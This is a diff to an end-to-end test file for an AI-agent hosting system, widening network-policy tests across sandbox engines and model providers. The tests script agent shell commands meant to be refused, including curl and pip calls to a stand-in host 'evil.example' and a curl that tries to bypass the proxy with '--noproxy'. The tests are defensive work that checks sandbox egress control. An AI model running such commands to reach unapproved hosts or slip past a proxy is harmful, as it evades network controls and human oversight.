@@ -24,6 +24,7 @@ from nanoclaw.host import Host
 from nanoclaw.store import network
 from nanoclaw.testing.models import Conversation, Script, Step, say, shell, steps
 from nanoclaw.testing.world import World, make_world
+from tests.e2e.conftest import ENGINES
 from tests.e2e.internet import Internet, internet
 
 pytestmark = [pytest.mark.anyio, pytest.mark.e2e]
@@ -59,10 +60,11 @@ def a_world(
     *,
     engine: str = "bubblewrap",
     provider: str = "codex",
+    sandbox: str = "",
     **group: Any,  # noqa: ANN401
 ) -> Generator[World]:
     """An installation whose group `family` has the authority of that internet, and a pip, in its files."""
-    with make_world(script, script, engine=engine, settings=_SETTINGS) as world:
+    with make_world(script, script, engine=engine, settings=_SETTINGS, sandbox=sandbox) as world:
         world.secrets(OPENAI_API_KEY=_KEY, ANTHROPIC_API_KEY=_KEY)
         world.register("family", provider=provider, requiresTrigger=False, **group)
         files = world.home.groups / "family"
@@ -109,16 +111,27 @@ def decided(world: World) -> set[tuple[str, int, str]]:
         return {(each.host, each.port, each.verdict) for each in network.recent(db, 100) if each.reason != "provider"}
 
 
-@pytest.mark.parametrize("provider", ["codex", "claude"])
+@pytest.mark.parametrize(
+    ("engine", "provider", "sandbox"),
+    [
+        pytest.param(engine, provider, sandbox, id=f"{title}-{provider}")
+        for title, engine, sandbox in (
+            *((engine, engine, "") for engine in ENGINES),
+            ("podman over stdio", "podman", 'way_out = "stdio"'),
+        )
+        for provider in ("codex", "claude")
+    ],
+)
 async def test_a_days_work_goes_well_under_the_default_policy_and_all_else_is_refused_and_told(
-    net: Internet, engine: str, provider: str
+    net: Internet, engine: str, provider: str, sandbox: str
 ) -> None:
     refused = (
         "curl -sS http://evil.example/",
         "curl -sS https://93.184.216.34/; curl -sS --noproxy '*' https://pypi.org/",
         f"{_PIP} --retries 1 download --index-url https://evil.example/ x",
     )
-    with a_world(net, running(*_WORK, *refused), engine=engine, provider=provider) as world:
+    work = running(*_WORK, *refused)
+    with a_world(net, work, engine=engine, provider=provider, sandbox=sandbox) as world:
         async with hosting(world, net) as client:
             (reply,) = await world.ask(client, "family", "do it")
             counts = (await client.get("/v1/status"))["network"]["family"]
@@ -203,11 +216,13 @@ async def test_npm_installs_and_shows_why_it_may_not(net: Internet, npm: str) ->
     assert f"evil.example {_REFUSED}" in said
 
 
+@pytest.mark.parametrize("provider", ["codex", "claude"])
 @pytest.mark.parametrize("chromium", [_CHROMIUM] if _CHROMIUM.exists() else [])
-async def test_chromium_opens_a_page_and_shows_why_it_may_not(net: Internet, chromium: Path) -> None:
+async def test_chromium_opens_a_page_and_shows_why_it_may_not(net: Internet, chromium: Path, provider: str) -> None:
     options = "--headless --no-sandbox --disable-dev-shm-usage --ignore-certificate-errors --user-data-dir=/tmp/profile"
     go = f"timeout 25 {chromium} {options} --dump-dom 2>/dev/null"
-    with a_world(net, running(f"{go} https://en.wikipedia.org/wiki/Hello", f"{go} http://evil.example/")) as world:
+    commands = (f"{go} https://en.wikipedia.org/wiki/Hello", f"{go} http://evil.example/")
+    with a_world(net, running(*commands), provider=provider) as world:
         said = await answer(world, net)
     assert "A greeting of old." in said
     assert f"evil.example {_REFUSED}" in said
